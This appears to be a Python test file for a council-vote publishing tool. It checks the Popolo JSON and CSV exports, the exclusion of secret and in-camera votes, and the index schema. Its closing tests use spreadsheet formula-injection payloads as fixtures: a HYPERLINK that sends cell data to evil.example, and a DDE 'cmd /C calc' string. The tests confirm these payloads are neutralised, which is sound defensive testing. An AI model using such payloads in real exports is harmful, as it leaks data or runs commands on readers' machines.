"""votes.popolo.json against Popolo's schemas, votes.csv against the tally, index.json's schema."""

import csv
import datetime as dt
import io
import json
from collections import Counter
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from jsonschema import Draft3Validator, Draft202012Validator, FormatChecker
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT3

from tests.builders import Log, session_data, write_folder
from tests.publish.conftest import IN_CAMERA, SECRET, Published
from videoacta import outputs, pipeline
from videoacta.cli import cli
from videoacta.core.schemas import index_schema
from videoacta.core.tally import Option
from videoacta.core.terms import VoteType
from videoacta.errors import OutputError
from videoacta.hashing import FileDigest
from videoacta.publish.opendata import CSV_COLUMNS, neutralise, votes_csv, write_exports
from videoacta.publish.popolo import body_id

POPOLO = Path(__file__).resolve().parent.parent / "schemas" / "popolo"
BASE = "http://www.popoloproject.com/schemas/"


def _registry() -> Registry:
    """Popolo's schema ids mapped to the project's copies in tests/schemas/popolo."""
    resources = []
    for path in sorted(POPOLO.glob("*.json")):
        contents = json.loads(path.read_text(encoding="utf-8"))
        resources.append((f"{BASE}{path.name}", Resource(contents, specification=DRAFT3)))
    return Registry().with_resources(resources)


def _aware(value: object) -> bool:
    return not isinstance(value, str) or dt.datetime.fromisoformat(value).tzinfo is not None


FORMATS = FormatChecker(formats=())
FORMATS.checks("date-time", raises=ValueError)(_aware)
REGISTRY = _registry()


def validator(name: str) -> Draft3Validator:
    schema = REGISTRY.contents(f"{BASE}{name}.json")
    return Draft3Validator(schema, registry=REGISTRY, format_checker=FORMATS)


def popolo(published: Published) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((published.folder / "votes.popolo.json").read_text("utf-8"))
    return data


def csv_rows(published: Published) -> list[dict[str, str]]:
    text = (published.folder / "votes.csv").read_bytes().decode("utf-8")
    assert text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


@pytest.mark.parametrize(
    ("collection", "schema"),
    [
        ("vote_events", "vote_event"),
        ("persons", "person"),
        ("organizations", "organization"),
        ("memberships", "membership"),
        ("events", "event"),
    ],
)
def test_popolo_document_validates(published: Published, collection: str, schema: str) -> None:
    check = validator(schema)
    records = popolo(published)[collection]
    assert records
    for record in records:
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in check.iter_errors(record)]
        assert errors == [], record.get("id")


def test_the_schema_copies_are_popolos_and_complete() -> None:
    for path in POPOLO.glob("*.json"):
        schema = json.loads(path.read_text(encoding="utf-8"))
        Draft3Validator.check_schema(schema)
        assert schema["id"] == f"{BASE}{path.name}#"
        assert all(ref.startswith(BASE) for ref in _refs(schema))


def _refs(schema: Any) -> list[str]:
    if isinstance(schema, dict):
        own = [schema["$ref"]] if isinstance(schema.get("$ref"), str) else []
        return own + [ref for value in schema.values() for ref in _refs(value)]
    if isinstance(schema, list):
        return [ref for value in schema for ref in _refs(value)]
    return []


def test_popolo_has_every_round_and_links_its_ids(published: Published) -> None:
    document = popolo(published)
    rounds = published.run.tally.rounds
    assert [e["id"] for e in document["vote_events"]] == [
        f"{published.run.session.id}/item-{r.item}/round-{r.number}" for r in rounds
    ]
    people = {p["id"] for p in document["persons"]}
    groups = {o["id"] for o in document["organizations"]}
    assert body_id(published.run.session) == "ajuntament-de-vilanova-de-lestany"
    for event in document["vote_events"]:
        assert event["organization_id"] in groups
        assert {v["voter_id"] for v in event.get("votes", [])} <= people
        assert {v["group_id"] for v in event.get("votes", [])} <= groups


def test_csv_totals_equal_the_tally(published: Published) -> None:
    rows = csv_rows(published)
    counted = Counter((int(r["item"]), int(r["round"]), r["option"]) for r in rows)
    published_rounds = [r for r in published.run.tally.rounds if r.vote_type is not VoteType.SECRET]
    published_rounds = [r for r in published_rounds if r.item != IN_CAMERA]
    assert len(published_rounds) >= 8
    for result in published_rounds:
        for option in Option:
            assert counted[(result.item, result.number, option.value)] == result.counts.get(option)
    assert len(rows) == len(published_rounds) * len(published.run.session.members)


def test_csv_has_no_rows_for_secret_or_in_camera_votes(published: Published) -> None:
    items = {int(row["item"]) for row in csv_rows(published)}
    assert SECRET not in items
    assert IN_CAMERA not in items
    assert {1, 2, 10} <= items


def test_in_camera_votes_give_totals_only(published: Published) -> None:
    events = [e for e in popolo(published)["vote_events"] if e["motion"]["identifier"] == "4"]
    assert events
    for event in events:
        assert event["in_camera"] is True
        assert "votes" not in event
        assert event["group_results"] == []
        assert event["round"]["changes"] == []
        assert sum(c["value"] for c in event["counts"]) == len(published.run.session.members)
        assert event["participants"]


def test_csv_of_the_sample_as_shipped(sample_package: Published) -> None:
    rows = csv_rows(sample_package)
    assert {int(r["item"]) for r in rows} == {1, 2, 3, 4, 5, 7, 9, 10}
    nominal = [r for r in rows if r["item"] == "10"]
    assert Counter(r["option"] for r in nominal) == {"yes": 5, "no": 6, "abstain": 7, "absent": 3}


def test_write_exports_writes_both_files_atomically(
    published: Published, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    artefacts = write_exports(tmp_path, run=published.run)
    assert [a.name for a in artefacts] == ["votes.popolo.json", "votes.csv"]
    for artefact in artefacts:
        written = (tmp_path / artefact.name).read_bytes()
        assert written == artefact.data == (published.folder / artefact.name).read_bytes()
        assert artefact.digest == FileDigest(size=len(written), sha256=sha256(written).hexdigest())
        assert artefact.embedded  # acta.pdf carries both

    def broken(source: str, target: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "replace", broken)
    with pytest.raises(OutputError, match="No space"):
        write_exports(tmp_path, run=published.run)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["votes.csv", "votes.popolo.json"]


def test_schema_index_is_printed() -> None:
    result = CliRunner().invoke(cli, ["schema", "index"])
    assert result.exit_code == 0, result.output
    schema = json.loads(result.output)
    Draft202012Validator.check_schema(schema)
    assert schema["title"] == "videoacta index.json"
    assert {"items", "interventions", "votes", "parts"} <= set(schema["required"])


@pytest.mark.parametrize("fixture", ["sample_package", "published"])
def test_index_json_validates_against_its_schema(
    fixture: str, request: pytest.FixtureRequest
) -> None:
    package: Published = request.getfixturevalue(fixture)
    index = json.loads((package.folder / "index.json").read_text(encoding="utf-8"))
    validator = Draft202012Validator(
        index_schema(), format_checker=Draft202012Validator.FORMAT_CHECKER
    )
    assert [e.message for e in validator.iter_errors(index)] == []
    in_camera = {item["number"]: item["in_camera"] for item in index["items"]}
    assert in_camera[IN_CAMERA] is (fixture == "published")
    assert sum(in_camera.values()) == (1 if fixture == "published" else 0)


def test_the_schema_rejects_a_broken_index(sample_package: Published) -> None:
    index = json.loads((sample_package.folder / "index.json").read_text(encoding="utf-8"))
    index["items"][0]["in_camera"] = "no"
    del index["parts"]
    errors = {e.message for e in Draft202012Validator(index_schema()).iter_errors(index)}
    assert "'parts' is a required property" in errors
    assert "'no' is not of type 'boolean'" in errors


FORMULAS = {
    "m1": '=HYPERLINK("http://evil.example/?"&A1,"Vegeu")',
    "m2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "m3": "-2+3",
    "m4": "+SUM(1)",
}


def formula_package(tmp_path: Path) -> tuple[Path, str]:
    """A session whose names and titles are spreadsheet formulas, tallied and exported."""
    data = session_data(members=4)
    for member in data["members"]:
        member["name"] = FORMULAS[member["id"]]
    data["groups"][0]["name"] = "+SUM(1)"
    data["items"][0]["title"] = "=1+1"
    log = Log().opened(["m1", "m2", "m3", "m4"]).add("item_opened", item=1)
    log.vote(1, {"m1": "yes", "m2": "no", "m3": "yes", "m4": "abstain"})
    log.add("item_closed", item=1).add("session_closed")
    run = pipeline.run_tally(write_folder(tmp_path / "session", data, log))
    write_exports(tmp_path, run=run)
    return tmp_path / "votes.csv", (tmp_path / "votes.csv").read_bytes().decode("utf-8")


def test_csv_cells_that_spreadsheets_take_for_formulas_are_neutralised(tmp_path: Path) -> None:
    _, text = formula_package(tmp_path)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["member_id"]: r["member_name"] for r in rows} == {
        member: "'" + name for member, name in FORMULAS.items()
    }
    assert {r["group_name"] for r in rows if r["group_id"] == "A"} == {"'+SUM(1)"}
    assert {r["item_title"] for r in rows} == {"'=1+1"}
    assert {r["group_name"] for r in rows if r["group_id"] == "B"} == {"Grup B"}
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_quotes_every_text_cell_and_no_number(tmp_path: Path) -> None:
    _, text = formula_package(tmp_path)
    lines = text.split("\r\n")
    assert lines[0] == ",".join(f'"{column}"' for column in CSV_COLUMNS)
    first = lines[1]
    assert first.startswith('"test-session","test-session/item-1/round-1",1,"\'=1+1",1,"false",')
    assert first.endswith(
        f',"m1","\'{FORMULAS["m1"].replace(chr(34), 2 * chr(34))}","A","\'+SUM(1)","yes",1,""'
    )


@pytest.mark.parametrize(
    "hostile", ["=1+1", "\t=1+1", "\r=1+1", 'a\r\nb,"c"', "-1", "@x", "+x", "\n=1"]
)
def test_csv_writer_is_safe_on_its_own(published: Published, hostile: str) -> None:
    """Even text the input rules refuse (a tab, a line break) cannot break a row or run."""
    session = published.run.session
    members = tuple(m.model_copy(update={"name": hostile}) for m in session.members)
    hostile_session = session.model_copy(update={"members": members})
    table = votes_csv(published.run.model_copy(update={"session": hostile_session}))
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert len(rows) == len(csv_rows(published))
    expected = "'" + hostile if hostile[0] in "=+-@\t\r" else hostile
    assert {r["member_name"] for r in rows} == {expected}


def test_neutralise() -> None:
    assert [neutralise(t) for t in ("=A1", "+1", "-1", "@A", "\tx", "\rx", "A=1", "", "'x")] == [
        "'=A1",
        "'+1",
        "'-1",
        "'@A",
        "'\tx",
        "'\rx",
        "A=1",
        "",
        "'x",
    ]
